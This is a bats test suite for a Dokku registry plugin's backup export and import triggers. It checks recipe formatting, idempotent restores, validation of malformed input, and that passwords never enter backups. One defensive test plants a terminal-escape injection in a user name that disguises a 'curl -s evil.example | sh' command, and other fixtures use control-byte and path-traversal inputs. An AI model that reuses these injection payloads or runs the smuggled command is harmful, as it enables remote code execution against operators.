#!/usr/bin/env bats
# End-to-end tests of Dokku's backup triggers for the registry plugin:
# backup-app-export / backup-app-import
# <app> <scope-dir>, backup-global-export / backup-global-import <scope-dir>.
#
# The recipe slice must be the bytes Dokku's BackupPropertyExport writes
# (go-yaml v3's yaml.Marshal); the expected texts below follow go-yaml's
# layout (play keys at column 2, task dashes at 4, bodies at 8) and its
# quoting (values that would read back as bool/number are double quoted).
# Logins use real components: a private D-Bus with gnome-keyring and
# docker-registry with htpasswd on 127.0.0.1 (dokku-login-helpers).

bats_require_minimum_version 1.5.0

load dokku-login-helpers

setup_file() {
  drl_setup_file
}

teardown_file() {
  drl_teardown_file
}

setup() {
  drl_setup
  # what Dokku's backup:export makes before it runs the triggers
  SCOPE_APP="$BATS_TEST_TMPDIR/staging/apps/app1"
  SCOPE_GLOBAL="$BATS_TEST_TMPDIR/staging/global"
  mkdir -p "$SCOPE_APP/config" "$SCOPE_APP/data" "$SCOPE_GLOBAL/config" "$SCOPE_GLOBAL/data"
}

teardown() {
  drl_teardown
}

# snapshot: every property file under $REG (path, mode, content hash),
# config.json left out.
snapshot() {
  (cd "$REG" && find . -type f ! -name config.json -printf '%p %m ' -exec sha256sum {} \; | sort)
}

# the app and global settings most installs have
seed_properties() {
  create_app app1
  must registry:set app1 server ghcr.io
  must registry:set app1 push-on-release true
  must registry:set app1 image-repo-template '{{ .AppName }}/web'
  must registry:set app1 push-extra-tags latest,stable
  write_prop app1 tag-version 7
  write_prop app1 image-repo ""
  must registry:set --global server registry.example.com:5000
  must registry:set --global push-on-release false
}

APP_RECIPE='- name: registry properties
  tasks:
    - dokku_registry_property:
        app: app1
        property: image-repo
    - dokku_registry_property:
        app: app1
        property: image-repo-template
        value: '"'"'{{ .AppName }}/web'"'"'
    - dokku_registry_property:
        app: app1
        property: push-extra-tags
        value: latest,stable
    - dokku_registry_property:
        app: app1
        property: push-on-release
        value: "true"
    - dokku_registry_property:
        app: app1
        property: server
        value: ghcr.io
    - dokku_registry_property:
        app: app1
        property: tag-version
        value: "7"'

GLOBAL_RECIPE='- name: registry properties
  tasks:
    - dokku_registry_property:
        global: true
        property: push-on-release
        value: "false"
    - dokku_registry_property:
        global: true
        property: server
        value: registry.example.com:5000'

# ---------------------------------------------------------------------------
# export

@test "(backup) app export: Dokku's recipe bytes, sorted, tag-version kept, mode 0600" {
  seed_properties
  drr backup-app-export app1 "$SCOPE_APP"
  assert_status 0 && assert_stdout "" && assert_stderr ""
  assert_file_content "$SCOPE_APP/config/registry.yml" "$APP_RECIPE"$'\n'
  assert_mode "$SCOPE_APP/config/registry.yml" 600
  # nothing else: no logins, so no data file
  assert_eq "$(cd "$SCOPE_APP" && find . -type f)" "./config/registry.yml" "files in the scope dir"
}

@test "(backup) global export: global: true tasks, mode 0600" {
  seed_properties
  drr backup-global-export "$SCOPE_GLOBAL"
  assert_status 0 && assert_stdout "" && assert_stderr ""
  assert_file_content "$SCOPE_GLOBAL/config/registry.yml" "$GLOBAL_RECIPE"$'\n'
  assert_mode "$SCOPE_GLOBAL/config/registry.yml" 600
}

@test "(backup) export reads back with an independent YAML reader (PyYAML)" {
  seed_properties
  write_prop app1 note $'two\nlines'
  must backup-app-export app1 "$SCOPE_APP"
  run "$DR_PYTHON" -c '
import sys, yaml
doc = yaml.safe_load(open(sys.argv[1]))
for t in doc[0]["tasks"]:
    b = t["dokku_registry_property"]
    print("%s=%r" % (b["property"], b.get("value", "")))
' "$SCOPE_APP/config/registry.yml"
  assert_status 0
  assert_eq "$output" "image-repo=''
image-repo-template='{{ .AppName }}/web'
note='two\\nlines'
push-extra-tags='latest,stable'
push-on-release='true'
server='ghcr.io'
tag-version='7'" "values PyYAML reads"
}

@test "(backup) no properties: nothing is written" {
  create_app app1
  drr backup-app-export app1 "$SCOPE_APP"
  assert_status 0 && assert_stderr ""
  drr backup-global-export "$SCOPE_GLOBAL"
  assert_status 0 && assert_stderr ""
  [ ! -e "$SCOPE_APP/config/registry.yml" ]
  [ ! -e "$SCOPE_GLOBAL/config/registry.yml" ]
  [ -z "$(find "$SCOPE_APP" "$SCOPE_GLOBAL" -type f)" ]
}

@test "(backup) trigger arguments: missing scope dir, bad app name" {
  drr backup-app-export app1
  assert_fail 1 "usage: dokku-registry backup-app-export <app> <scope-dir>"
  drr backup-global-import
  assert_fail 1 "usage: dokku-registry backup-global-import <scope-dir>"
  drr backup-app-import app1 "$BATS_TEST_TMPDIR/nope"
  assert_fail 1 "Backup scope directory $BATS_TEST_TMPDIR/nope does not exist"
  drr backup-app-export ../x "$SCOPE_APP"
  assert_fail 1 "App name must begin with lowercase alphanumeric character, and may only contain lowercase alphanumerics, dots, and hyphens"
}

# ---------------------------------------------------------------------------
# import

@test "(backup) round trip: export, wipe, import restores every file byte for byte" {
  seed_properties
  write_prop app1 note $'line one\nline two\n\n'
  local before
  before=$(snapshot)
  must backup-global-export "$SCOPE_GLOBAL"
  must backup-app-export app1 "$SCOPE_APP"
  # wipe: the app destroyed, the global settings gone
  must post-delete app1
  rm -rf "$DOKKU_ROOT/app1" "$GLOBAL"
  [ -z "$(snapshot)" ]
  # restore as Dokku's backup:import does: global first, then app-create, then the app
  drr backup-global-import "$SCOPE_GLOBAL"
  assert_status 0 && assert_stdout "" && assert_stderr ""
  create_app app1
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 0 && assert_stdout "" && assert_stderr ""
  assert_eq "$(snapshot)" "$before" "property files after the restore"
  assert_info app1 --registry-computed-image-repo app1/web
  assert_json app1 registry-computed-server ghcr.io/
}

@test "(backup) import is idempotent and converges" {
  seed_properties
  must backup-app-export app1 "$SCOPE_APP"
  local before
  before=$(snapshot)
  must backup-app-import app1 "$SCOPE_APP"
  must backup-app-import app1 "$SCOPE_APP"
  assert_eq "$(snapshot)" "$before" "after importing twice"
  # a changed value goes back to the recipe's; a property the recipe does
  # not name is left alone (Dokku deletes only on state: absent)
  must registry:set app1 server quay.io
  write_prop app1 extra kept
  must backup-app-import app1 "$SCOPE_APP"
  assert_file_content "$REG/app1/server" ghcr.io
  assert_file_content "$REG/app1/extra" kept
}

@test "(backup) state: absent deletes, other states write; the trigger's app wins over the task's" {
  create_app app1
  write_prop app1 server ghcr.io
  write_prop app1 image-repo old/repo
  cat >"$SCOPE_APP/config/registry.yml" <<'EOF'
- name: registry properties
  tasks:
    - dokku_registry_property:
        app: some-other-app
        property: server
        state: absent
    - dokku_registry_property:
        app: some-other-app
        property: image-repo
        value: new/repo
        state: present
    - dokku_registry_property:
        app: app1
        property: push-on-release
        value: true
    - dokku_registry_property:
        app: app1
        property: tag-version
        value: 0012
    - dokku_registry_property:
        app: app1
        property: push-extra-tags
        value: ~
    - dokku_registry_property:
        app: app1
        property: server
        state: absent
EOF
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 0 && assert_stderr ""
  [ ! -e "$REG/app1/server" ]
  assert_file_content "$REG/app1/image-repo" new/repo
  assert_file_content "$REG/app1/push-on-release" true
  assert_file_content "$REG/app1/tag-version" 0012
  assert_file_content "$REG/app1/push-extra-tags" ""
  [ ! -e "$REG/some-other-app" ]
}

@test "(backup) a missing slice is a no-op" {
  seed_properties
  local before
  before=$(snapshot)
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 0 && assert_stdout "" && assert_stderr ""
  drr backup-global-import "$SCOPE_GLOBAL"
  assert_status 0 && assert_stdout "" && assert_stderr ""
  assert_eq "$(snapshot)" "$before" "after importing nothing"
}

# malformed RECIPE LINE: importing RECIPE changes nothing and fails with one
# line naming the file and LINE.
malformed() {
  local before
  before=$(snapshot)
  printf '%s\n' "$1" >"$SCOPE_APP/config/registry.yml"
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 1 || return 1
  assert_stdout "" || return 1
  assert_stderr_lines 1 || return 1
  assert_contains "$stderr" " !     Unable to import registry properties: $SCOPE_APP/config/registry.yml: line $2: " || return 1
  assert_eq "$(snapshot)" "$before" "property files after a bad recipe ($1)"
}

@test "(backup) a malformed recipe changes nothing and names the file and line" {
  seed_properties
  # the first task is fine: all or nothing
  local good='- name: registry properties
  tasks:
    - dokku_registry_property:
        app: app1
        property: server
        value: changed.example.com'
  malformed "$good
    - dokku_registry_property:
        property: [not, a, string]" 8
  malformed "$good
    - dokku_registry_property:
        property: bad indent
       value: x" 9
  malformed "$good
    - dokku_registry_property:
        property: ../../escape
        value: x" 8
  malformed "$good
    - dokku_registry_property:
        property: .hidden
        value: x" 8
  malformed "$good
    - dokku_nginx_property:
        property: proxy-read-timeout" 7
  malformed "$good
    - dokku_registry_property:
        property: server
        property: twice" 9
  malformed "$good
    - dokku_registry_property:
        global: maybe
        property: server" 8
  malformed "tasks: {}" 1
  malformed "- name: x
  tasks: just-a-string" 2
  malformed "- &a {tasks: []}
- *a" 2
  malformed $'- name: "unterminated\n' 3
  [ "$(cat "$REG/app1/server")" = ghcr.io ]
}

@test "(backup) the recipe has a read limit" {
  seed_properties
  local before
  before=$(snapshot)
  head -c $((4 * 1024 * 1024 + 1)) /dev/zero | tr '\0' '#' >"$SCOPE_APP/config/registry.yml"
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 1
  assert_contains "$stderr" "registry.yml"
  assert_eq "$(snapshot)" "$before" "after an oversized recipe"
}

@test "(backup) all or nothing: what the write or a reader would refuse fails the import before the first task" {
  seed_properties
  local good='- name: registry properties
  tasks:
    - dokku_registry_property:
        app: app1
        property: push-on-release
        value: "false"' before big name
  before=$(snapshot)
  # a 100 KiB server: every property reader stops at 64 KiB
  big=$(head -c $((100 * 1024)) /dev/zero | tr '\0' 'x')
  printf '%s\n' "$good
    - dokku_registry_property:
        app: app1
        property: server
        value: $big" >"$SCOPE_APP/config/registry.yml"
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 1
  assert_stderr " !     Unable to import registry properties: $SCOPE_APP/config/registry.yml: line 9: the value of server is 102400 bytes, over the 65536 bytes a property may hold (every reader stops there)"
  assert_eq "$(snapshot)" "$before" "property files after a 100 KiB value"
  # a property name over NAME_MAX (with the atomic write's temp suffix)
  name=$(head -c 250 /dev/zero | tr '\0' 'n')
  printf '%s\n' "$good
    - dokku_registry_property:
        app: app1
        property: $name
        value: x" >"$SCOPE_APP/config/registry.yml"
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 1
  assert_stderr " !     Unable to import registry properties: $SCOPE_APP/config/registry.yml: line 9: the property name \"${name:0:40}...\" is 250 bytes long, over the 245 a property file may have"
  assert_eq "$(snapshot)" "$before" "property files after an over-long name"
  # and everything still reads
  must registry:report app1
  # at the limit it imports and reads back
  big=$(head -c 65536 /dev/zero | tr '\0' 'x')
  printf '%s\n' "$good
    - dokku_registry_property:
        app: app1
        property: server
        value: $big" >"$SCOPE_APP/config/registry.yml"
  must backup-app-import app1 "$SCOPE_APP"
  assert_eq "$(wc -c <"$REG/app1/server")" 65536 "server bytes"
  must registry:report app1 --registry-server
}

# ---------------------------------------------------------------------------
# logins: never in the backup, a hint to log in again

@test "(backup) app login: no secret in the scope dir, the restore prints the one login command" {
  seed_properties
  login_app app1 alice "$PW_A"
  assert_marker "$(appdir app1)/config.json"
  must backup-app-export app1 "$SCOPE_APP"
  # the recipe is the same as without the login: config.json never travels
  assert_file_content "$SCOPE_APP/config/registry.yml" "$APP_RECIPE"$'\n'
  assert_file_content "$SCOPE_APP/data/registry/logins.json" "{
  \"logins\": [
    {
      \"server\": \"$R\",
      \"username\": \"alice\"
    }
  ]
}
"
  assert_mode "$SCOPE_APP/data/registry/logins.json" 600
  # no password, no base64 user:password, anywhere in the backup
  local hits
  hits=$(grep -r -l -F -e "$PW_A" -e "$(b64 "alice:$PW_A")" "$BATS_TEST_TMPDIR/staging") || true
  assert_eq "$hits" "" "backup files holding the password"
  # wipe the app (keyring entries too), restore it
  must post-delete app1
  rm -rf "$DOKKU_ROOT/app1"
  assert_items 0
  create_app app1
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 0 && assert_stdout ""
  assert_stderr " !     Registry login for $R is not in the backup; log in again with: dokku registry:login --password-stdin app1 $R alice"
  [ ! -e "$(appdir app1)/config.json" ]
  # the printed command works as printed (dokku-registry is what `dokku registry:login` runs)
  local cmd=${stderr#*log in again with: dokku }
  read -r -a words <<<"$cmd"
  drr_in "$PW_A" "${words[@]}"
  assert_status 0
  assert_helper_creds "$(appdir app1)" alice "$PW_A"
  # logged in again: a second import has nothing to say
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 0 && assert_stderr ""
}

@test "(backup) global login: --global hint, none while the login is still there" {
  login_global bob "$PW_B"
  must backup-global-export "$SCOPE_GLOBAL"
  [ ! -e "$SCOPE_GLOBAL/config/registry.yml" ]
  assert_eq "$(jq -c . "$SCOPE_GLOBAL/data/registry/logins.json")" \
    "{\"logins\":[{\"server\":\"$R\",\"username\":\"bob\"}]}" "global logins.json"
  local hits
  hits=$(grep -r -l -F -e "$PW_B" -e "$(b64 "bob:$PW_B")" "$BATS_TEST_TMPDIR/staging") || true
  assert_eq "$hits" "" "backup files holding the password"
  # restored on the same host: the login is still there
  drr backup-global-import "$SCOPE_GLOBAL"
  assert_status 0 && assert_stderr ""
  # restored on a fresh host
  must registry:logout --global "$R"
  drr backup-global-import "$SCOPE_GLOBAL"
  assert_status 0 && assert_stdout ""
  assert_stderr " !     Registry login for $R is not in the backup; log in again with: dokku registry:login --password-stdin --global $R bob"
}

@test "(backup) plaintext docker login: user name kept, password not; a bad logins list changes nothing" {
  create_app app1
  must registry:set app1 server ghcr.io
  plain_docker_login "$(appdir app1)" alice "$PW_A"
  must backup-app-export app1 "$SCOPE_APP"
  assert_eq "$(jq -c . "$SCOPE_APP/data/registry/logins.json")" \
    "{\"logins\":[{\"server\":\"$R\",\"username\":\"alice\"},{\"server\":\"dummy.invalid\"}]}" "logins.json"
  local hits
  hits=$(grep -r -l -F -e "$PW_A" -e "$(b64 "alice:$PW_A")" "$BATS_TEST_TMPDIR/staging") || true
  assert_eq "$hits" "" "backup files holding the password"
  # a logins list that is not one is refused before any property is written
  must registry:set app1 server quay.io
  printf '{"logins": [{"server": 5}]}' >"$SCOPE_APP/data/registry/logins.json"
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 1
  assert_stderr " !     Unable to import the registry logins list: $SCOPE_APP/data/registry/logins.json: login 1 is not a server and a user name"
  assert_file_content "$REG/app1/server" quay.io
}

@test "(backup) a locked keyring does not stop the export: servers listed, user names unknown" {
  create_app app1
  must registry:set app1 server ghcr.io
  login_app app1 alice "$PW_A"
  lock_keyring
  drr backup-app-export app1 "$SCOPE_APP"
  assert_status 0 && assert_stdout ""
  assert_stderr_lines 1
  assert_contains "$stderr" " !     Unable to read the registry user names: "
  assert_file_content "$SCOPE_APP/config/registry.yml" '- name: registry properties
  tasks:
    - dokku_registry_property:
        app: app1
        property: server
        value: ghcr.io
'
  assert_eq "$(jq -c . "$SCOPE_APP/data/registry/logins.json")" "{\"logins\":[{\"server\":\"$R\"}]}" "logins.json"
  # the hint then leaves the user name for the operator to fill in
  must post-delete app1
  rm -rf "$DOKKU_ROOT/app1"
  create_app app1
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 0
  assert_stderr " !     Registry login for $R is not in the backup; log in again with: dokku registry:login --password-stdin app1 $R <username>"
}

@test "(backup) a backup made by Dokku's own plugin: its config.json is never written, its logins become hints" {
  create_app app1
  local cfg
  cfg=$(jq -cn --arg r "$R" --arg a "$(b64 "alice:$PW_A")" '{auths: {($r): {auth: $a}, "quay.io": {}}}')
  # what Dokku's BackupPropertyExport writes for an app with its own plaintext login
  cat >"$SCOPE_APP/config/registry.yml" <<EOF
- name: registry properties
  tasks:
    - dokku_registry_property:
        app: app1
        property: config.json
        value: '$cfg'
    - dokku_registry_property:
        app: app1
        property: server
        value: ghcr.io
EOF
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 0 && assert_stdout ""
  assert_stderr_lines 3
  assert_stderr_line 0 " !     Docker credentials in the backup (config.json, line 5) are not restored; logins live in the keyring"
  assert_stderr_line 1 " !     Registry login for $R is not in the backup; log in again with: dokku registry:login --password-stdin app1 $R alice"
  assert_stderr_line 2 " !     Registry login for quay.io is not in the backup; log in again with: dokku registry:login --password-stdin app1 quay.io <username>"
  assert_file_content "$REG/app1/server" ghcr.io
  [ ! -e "$REG/app1/config.json" ]
  rm "$SCOPE_APP/config/registry.yml"
  assert_no_secret_on_disk alice "$PW_A"
}

@test "(backup) a hostile backup's user names reach the terminal escaped: no ESC or CR redraws the printed command" {
  create_app app1
  mkdir -p "$SCOPE_APP/data/registry"
  # a user name that, printed raw, erases the line and shows a different command
  jq -n --arg u $'\e[2K\rdokku registry:login app1 ghcr.io bob ; curl -s evil.example | sh #' \
    '{logins: [{server: "ghcr.io", username: $u}]}' >"$SCOPE_APP/data/registry/logins.json"
  # and one in a config.json task's auth (Dokku's own plugin's backups)
  local cfg
  cfg=$(jq -cn --arg a "$(printf '\e]0;x\a\xe2\x80\xaeuser\xc2\x9b:pw' | base64 -w0)" '{auths: {"quay.io": {auth: $a}}}')
  cat >"$SCOPE_APP/config/registry.yml" <<EOF
- name: registry properties
  tasks:
    - dokku_registry_property:
        app: app1
        property: config.json
        value: '$cfg'
EOF
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 0 && assert_stdout ""
  assert_stderr_lines 3
  assert_stderr_line 1 " !     Registry login for ghcr.io is not in the backup; log in again with: dokku registry:login --password-stdin app1 ghcr.io '\\e[2K\\rdokku registry:login app1 ghcr.io bob ; curl -s evil.example | sh #'"
  assert_stderr_line 2 " !     Registry login for quay.io is not in the backup; log in again with: dokku registry:login --password-stdin app1 quay.io '\\e]0;x\\x07\\u202euser\\u009b'"
  # not one control byte reached the terminal
  run ! grep -qP '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80\xae' <<<"$stderr"
  # an error that quotes the backup (a property name) is escaped too
  printf '%s\n' '- name: registry properties
  tasks:
    - dokku_registry_property:
        app: app1
        property: "\e[2K\rok/x"
        value: x' >"$SCOPE_APP/config/registry.yml"
  drr backup-app-import app1 "$SCOPE_APP"
  assert_status 1
  assert_stderr " !     Unable to import registry properties: $SCOPE_APP/config/registry.yml: line 5: \"\\e[2K\\rok/x\" is not a registry property"
  run ! grep -qP '[\x00-\x08\x0b-\x1f\x7f]' <<<"$stderr"
}
